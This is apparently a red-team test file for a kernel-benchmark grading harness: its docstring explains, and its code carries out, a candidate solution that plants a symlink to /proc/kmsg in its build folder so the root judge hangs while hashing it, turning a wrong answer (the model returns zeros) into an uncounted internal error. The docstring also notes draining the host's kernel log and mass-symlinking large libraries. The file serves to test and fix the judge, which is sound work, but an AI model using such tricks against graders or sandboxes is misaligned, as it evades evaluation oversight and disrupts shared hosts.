"""Attack: hang the trusted judge through the files it hashes in the candidate's build folder (19_ReLU).

After the build the judge (root, no deadline on this step) records the sha256 of every
"regular" *.so under the candidate's build-cache entry (build_cache.cpp libraries_in():
is_regular_file() follows symlinks, sha256_file() reads the whole file into memory). The entry
is the sandbox's to write, so the candidate plants `kbv_hang.so -> /proc/kmsg`: a procfs
*regular* file that the judge may read (root/CAP_SYSLOG) and that never reaches EOF. The
judge blocks in build_cache_record() forever; only kbv's backstop (compile + run timeout + 120 s,
27 min by default) ends it, and the verdict is internal_error ("kbv-judge did not finish
within the evaluation's limits"): kbv's fault, counted nowhere, re-run by every `kbv run`.
(The same read also drains the host's /proc/kmsg; `x.so -> some 1 GiB library` x 1000 gives a
judge that hashes a terabyte, holding each file in memory.)
Returns zeros (wrong).
Verdict kbv gave (--compile-timeout 15 --run-timeout 15): internal_error after 150 s,
"kbv-judge did not finish within the evaluation's limits ... in stage 'build'". WORKED.
(The working tree's library_hash() opens with O_NOFOLLOW|O_NONBLOCK: this route is closed there;
judge_hang_fifo_log.py and judge_hash_hardlinks.py are not.)

Found by the red team of the judge/sandbox split (2026-12-01). Fixed: the judge hashes libraries through one fd opened without following links or blocking,
regular files only. kbv must conclude: the candidate's own outcome within its limits.
"""
import os
import re

import torch
import torch.nn as nn


def build_dir():
    # every writable folder is a bind mount of itself (launch.cpp make_root_read_only)
    for line in open("/proc/self/mountinfo"):
        p = line.split()[4]
        if "/kbv/builds/" in p or re.search(r"/builds/[0-9a-f]{16}$", p):
            return p
    return os.environ.get("TORCH_EXTENSIONS_DIR")


d = build_dir()
try:
    os.symlink("/proc/kmsg", os.path.join(d, "kbv_hang.so"))
    print(f"ATTACK judge_hang_symlink_so: planted {d}/kbv_hang.so -> /proc/kmsg", flush=True)
except OSError as e:
    print(f"ATTACK judge_hang_symlink_so: {d}: {e}", flush=True)


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.zeros_like(x)  # wrong
